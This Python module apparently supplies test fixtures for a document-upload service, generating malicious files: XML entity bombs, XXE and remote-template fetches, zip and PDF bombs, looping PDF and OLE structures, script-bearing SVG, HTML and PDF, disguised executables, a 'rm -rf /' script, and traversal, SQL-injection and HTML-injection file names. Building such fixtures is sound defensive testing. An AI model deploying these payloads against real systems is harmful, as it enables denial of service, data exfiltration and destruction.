"""Files that somebody with bad intent, a broken program or an unlucky transfer would send: small ones of our own, each with its name."""

import gzip
import io
import struct
import zlib
from collections.abc import Callable
from functools import cache

from docx import Document
from file_makers import claiming, ods, repack, xlsx
from openpyxl import Workbook

from support.mails import make_mail

PNG = b"\x89PNG\r\n\x1a\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_ROWS = (("Leverandør", "Org.nr.", "Land", "Beløp"), ("Eksempel AS", "", "Norge", "10"))
_BOMB = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
NAMES = (
    "../../../{}", "..\\..\\{}", "/etc/{}", "C:\\Windows\\{}", "lang" * 80 + "{}", "nul\x00l{}", "CON{}", "aux .{}",
    "snudd\u202efdp.exe{}", "A\u030Arsliste{}", "linje\nto{}", "<img src=x>{}", "{}", " . {}", "'; DROP TABLE supplier;--{}", "\U0001f4a3{}",
)  # fmt: skip
"""File names, with a place for the ending: that climb, stop short, reach devices, turn around, and run."""


@cache
def word() -> bytes:
    """A plain Word file."""
    saved = io.BytesIO()
    made = Document()
    made.add_paragraph("Et avsnitt.")
    made.save(saved)
    return saved.getvalue()


@cache
def book() -> bytes:
    """A plain workbook with one supplier."""
    return xlsx(_ROWS)


def declaring(package: bytes, part: str, doctype: str, entity: str) -> bytes:
    """A package with a declaration in front of one part, and a word that uses it."""

    def change(name: str, content: bytes) -> bytes:
        if name != part:
            return content
        text = content.decode()
        head, end, rest = text.partition("?>") if text.startswith("<?xml") else ("", "", text)
        return f"{head}{end}{doctype}{rest}".replace("Norge", entity).replace("Et avsnitt.", entity).encode()

    return repack(package, change)


def outside(address: str) -> str:
    """A declaration that fetches."""
    return f'<!DOCTYPE x [<!ENTITY % hent SYSTEM "{address}/dtd"> %hent; <!ENTITY i SYSTEM "{address}/fil">]>'


def png(width: int, height: int) -> bytes:
    """A picture that says it is so large and has next to nothing in it."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return PNG + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")


def pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF of these objects, numbered from 1, with a table of where they stand."""
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(out)


def _stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<</Length %d %s>>\nstream\n%s\nendstream" % (len(content), extra, content)


@cache
def _pdf_bomb() -> bytes:
    """A page whose content is hundreds of megabytes of blanks, packed twice."""
    once = zlib.compress(b" " * 200_000_000, 1)
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        _stream(zlib.compress(once, 9), b"/Filter[/FlateDecode/FlateDecode]"),
    )  # fmt: skip


def _pdf_in_circles() -> bytes:
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Parent 2 0 R/Count 2>>")


def _pdf_that_acts(address: str) -> bytes:
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(" + address.encode() + b")>>"
        b"/AA<</WC<</S/JavaScript/JS(app.alert\\(1\\))>>>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    )  # fmt: skip


@cache
def _swollen(package: Callable[[], bytes]) -> bytes:
    """A package with a part of 60 MB of zeros in some kilobytes."""
    return repack(package(), extra={"xl/media/image1.bin": bytes(60_000_000)})


def _encrypted(package: bytes) -> bytes:
    marked = bytearray(package)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = marked.find(mark)
        while place >= 0:
            marked[place + at] |= 1
            place = marked.find(mark, place + 4)
    return bytes(marked)


@cache
def _far() -> bytes:
    def put(made: Workbook) -> None:
        made.worksheets[0]["XFD1048576"] = "x"

    return xlsx(_ROWS, put)


def _nested_mail(depth: int) -> bytes:
    mail = b"From: a@example.org\r\nSubject: inne\r\n\r\nHei\r\n"
    for number in range(depth):
        mail = (
            b"From: a@example.org\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n"
            b"Content-Type: message/rfc822\r\n\r\n%s\r\n--b%d--\r\n" % (number, number, mail, number)
        )
    return mail


def packages(address: str) -> dict[str, tuple[str, bytes]]:
    """What is packed: workbooks and Word files built to harm; name → (file name, bytes)."""
    made: dict[str, tuple[str, bytes]] = {"a far cell": ("fjern.xlsx", _far())}
    for ending, package, part in (
        ("xlsx", book(), "xl/worksheets/sheet1.xml"),
        ("xlsx", book(), "xl/workbook.xml"),
        ("docx", word(), "word/document.xml"),
        ("docx", word(), "[Content_Types].xml"),
        ("ods", ods(_ROWS), "content.xml"),
    ):
        made[f"entities that grow in {part}"] = (f"a.{ending}", declaring(package, part, _BOMB, "&i;"))
        made[f"an entity that fetches in {part}"] = (
            f"b.{ending}",
            declaring(package, part, outside(address), "&i;"),
        )
    for ending, package in (("xlsx", book()), ("docx", word())):
        for what, name, content in (
            ("macros", "xl/vbaProject.bin", OLE), ("macros for Word", "word/vbaProject.bin", OLE),
            ("a zip within", "xl/inne.zip", book()), ("a name that climbs", "../../ute.xml", b"<x/>"),
            ("an absolute name", "/etc/ute.xml", b"<x/>"), ("a name with a drive", "C:/ute.xml", b"<x/>"),
        ):  # fmt: skip
            made[f"{ending} with {what}"] = (f"c.{ending}", repack(package, extra={name: content}))
        made[f"{ending} of a thousand parts"] = (
            f"d.{ending}", repack(package, extra={f"xl/media/{number}.xml": b"<x/>" for number in range(1024)})
        )  # fmt: skip
        made[f"{ending} cut in the middle"] = (f"e.{ending}", package[: len(package) // 2])
        made[f"{ending} with its end alone"] = (f"f.{ending}", package[-200:])
        made[f"{ending} with a password's mark"] = (f"g.{ending}", _encrypted(package))
        part = "xl/worksheets/sheet1.xml" if ending == "xlsx" else "word/document.xml"
        made[f"{ending} that claims gigabytes"] = (f"h.{ending}", claiming(package, part, 4_000_000_000))
        made[f"{ending} with a part that is no XML"] = (
            f"i.{ending}", repack(package, lambda name, content, part=part: b"\xff\xfe<" if name == part else content)
        )  # fmt: skip
    made["xlsx that swells"] = ("j.xlsx", _swollen(book))
    made["docx that swells"] = ("k.docx", _swollen(word))
    made["docx that fetches its template"] = ("l.docx", _fetching_word(address))
    return made


def _fetching_word(address: str) -> bytes:
    one = f'<Relationship Id="rIdUt" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="{address}/mal.dotm" TargetMode="External"/></Relationships>'

    def change(name: str, content: bytes) -> bytes:
        return (
            content.replace(b"</Relationships>", one.encode())
            if name == "word/_rels/document.xml.rels"
            else content
        )

    return repack(word(), change)


def disguised(address: str) -> dict[str, tuple[str, bytes]]:
    """What is not what it is called, or nothing at all; name → (file name, bytes)."""
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{address}/x"/><script>alert(1)</script></svg>'.encode()
    page = f'<!doctype html><html><img src="{address}/x"><script>alert(1)</script></html>'.encode()
    xml = f'<?xml version="1.0"?>{outside(address)}<x>&i;</x>'.encode()
    programs = {
        "a program": b"MZ\x90\x00" + bytes(200),
        "an ELF": b"\x7fELF" + bytes(200),
        "a script": b"#!/bin/sh\nrm -rf /\n",
    }
    made = {
        "nothing": ("tom.xlsx", b""),
        "blanks": ("blank.csv", b" \r\n\t" * 20),
        "zeros": ("null.pdf", bytes(4096)),
    }
    made["random bytes"] = ("stoy.xlsx", bytes((number * 7919 + 13) % 251 for number in range(3000)))
    made["a packed stream"] = ("pakket.csv", gzip.compress(b"Navn;Land\n" * 9))
    made["seven zip"] = ("pakket.pdf", b"7z\xbc\xaf\x27\x1c" + bytes(64))
    made["rich text"] = ("brev.docx", rb"{\rtf1\ansi{\object\objocx{\*\objdata 01}}}")
    made["an old office file of nothing"] = ("gammel.xls", OLE + bytes(3000))
    made["an old office file that points at itself"] = ("ring.msg", _ole_in_circles())
    made["two at once"] = ("begge.pdf", b"MZ\x90\x00" + pdf(b"<</Type/Catalog>>"))
    made["a workbook called a picture"] = ("bok.png", book())
    made["a picture called a workbook"] = ("bilde.xlsx", png(1, 1))
    for what, endings in (
        ("a program", "pdf png docx xlsx csv eml exe"),
        ("an ELF", "pdf csv"),
        ("a script", "docx csv"),
    ):
        for ending in endings.split():
            made[f"{what} called .{ending}"] = (f"p.{ending}", programs[what])
    for what, data, endings in (
        ("a drawing", svg, "png docx"),
        ("a web page", page, "png pdf xlsx eml"),
        ("XML that fetches", xml, "docx csv"),
    ):
        for ending in endings.split():
            made[f"{what} called .{ending}"] = (f"s.{ending}", data)
    return made


def _ole_in_circles() -> bytes:
    """An old office file whose sectors follow each other for ever."""
    head = bytearray(512)
    head[:8] = OLE
    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", head, 44, 1, 1, 0, 4096, 1, 1, 0, 0xFFFFFFF0, 0)
    struct.pack_into("<109I", head, 76, 0, *[0xFFFFFFFF] * 108)
    table = struct.pack("<128I", 0xFFFFFFFD, *[1] * 127)
    name = "__properties_version1.0".encode("utf-16-le")
    entry = (
        name.ljust(64, b"\x00")
        + struct.pack("<HBBIII", len(name) + 2, 5, 0, 1, 1, 1)
        + bytes(36)
        + struct.pack("<IQ", 1, 9**9)
    )
    return bytes(head) + table + entry * 4


def documents(address: str) -> dict[str, tuple[str, bytes]]:
    """PDFs, pictures and mails built to harm; name → (file name, bytes)."""
    return {
        "a PDF that unpacks to hundreds of megabytes": ("bombe.pdf", _pdf_bomb()),
        "a PDF whose pages hold themselves": ("ring.pdf", _pdf_in_circles()),
        "a PDF that acts": ("handling.pdf", _pdf_that_acts(address)),
        "a PDF of a head alone": ("hode.pdf", b"%PDF-1.7\n"),
        "a PDF cut in the middle": ("kuttet.pdf", _pdf_that_acts(address)[:120]),
        "a PDF whose table points anywhere": ("tabell.pdf", pdf(b"<</Type/Catalog/Pages 2 0 R>>", trailer=b"/Root 1 0 R /Prev 9")),
        "a picture of a hundred thousand pixels square": ("stor.png", png(100_000, 100_000)),
        "a picture of nothing": ("null.png", png(0, 0)),
        "a picture cut short": ("kuttet.png", png(40, 40)[:50]),
        "mails in mails": ("dyp.eml", _nested_mail(400)),
        "a mail of ten thousand parts": ("deler.eml", b"From: a@example.org\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\nx\r\n" * 10_000),
        "a mail with an endless head": ("hode.eml", b"Subject: " + b"a" * 2_000_000 + b"\r\n\r\nHei"),
        "a mail with harmful files": ("vedlegg.eml", make_mail(attachments=(
            ("../../ute.exe", b"MZ\x90\x00", "application/pdf"), ("faktura.pdf", b"<script>alert(1)</script>", "application/pdf"),
            ("bombe.docx", _swollen(word), "application/octet-stream"),
        ))),
        "a list of one endless line": ("linje.csv", b"Navn;Land\n" + b"x" * 3_000_000),
        "a list of many columns": ("bred.csv", b";".join(b"k%d" % number for number in range(20_000)) + b"\n" + b";" * 19_999 + b"\n"),
        "a list of quotes that never end": ("sitat.csv", b'Navn;Land\n"' + b'a""' * 100_000),
        "JSON without end": ("dyp.json", b"[" * 200_000),
    }  # fmt: skip


@cache
def every_hostile_file(address: str) -> dict[str, tuple[str, bytes]]:
    """All of them; ``address`` is where what fetches would call."""
    return packages(address) | disguised(address) | documents(address)
